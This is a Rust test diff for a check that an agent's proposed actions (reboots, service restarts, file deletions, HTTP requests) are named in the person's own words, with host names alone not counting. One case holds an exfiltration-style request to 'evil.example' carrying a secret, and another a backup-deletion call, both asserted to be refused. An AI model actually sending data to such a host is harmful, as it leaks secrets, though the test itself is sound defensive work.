@@ -45,16 +45,26 @@ fn a_change_is_named_by_the_person_or_refused() {
         ("task.undo", json!({"task": crate::ids::TaskId::new(9).to_string()}), false),
     ];
     for (verb, args, good) in &cases {
-        assert_eq!(names_object(&call(verb, args.clone()), &words).is_ok(), *good, "{verb} {args}");
+        assert_eq!(
+            names_object(&call(verb, args.clone()), &words, &["web-03"]).is_ok(),
+            *good,
+            "{verb} {args}"
+        );
     }
-    assert!(names_object(&call("host.reboot", json!({})), &["reboot web-03"]).is_ok());
+    assert!(names_object(&call("host.reboot", json!({})), &["reboot web-03"], &["web-03"]).is_ok());
+    let restart =
+        |words: &str| names_object(&call("service.restart", json!({"name": "redis"})), &[words], &["redis"]);
+    assert!(restart("restart redis on redis").is_ok());
+    assert!(restart("how are the disks of redis?").is_err(), "a host's name is no object");
+    let delete = call("file.delete", json!({"path": "/var/backups/web-03"}));
+    assert!(names_object(&delete, &["how are the disks of web-03?"], &["web-03"]).is_err());
     let http = |url: &str| verbs::parse("net.http", &json!({"url": url}), None).unwrap();
     assert!(
-        names_object(&http("https://shop.example.com/up"), &["is https://shop.example.com/up there?"])
+        names_object(&http("https://shop.example.com/up"), &["is https://shop.example.com/up there?"], &[])
             .is_ok()
     );
     assert!(
-        names_object(&http("https://evil.example/?d=secret"), &["is https://shop.example.com there?"])
+        names_object(&http("https://evil.example/?d=secret"), &["is https://shop.example.com there?"], &[])
             .is_err()
     );
     eprintln!("{} proposals against a person's words", cases.len() + 1);
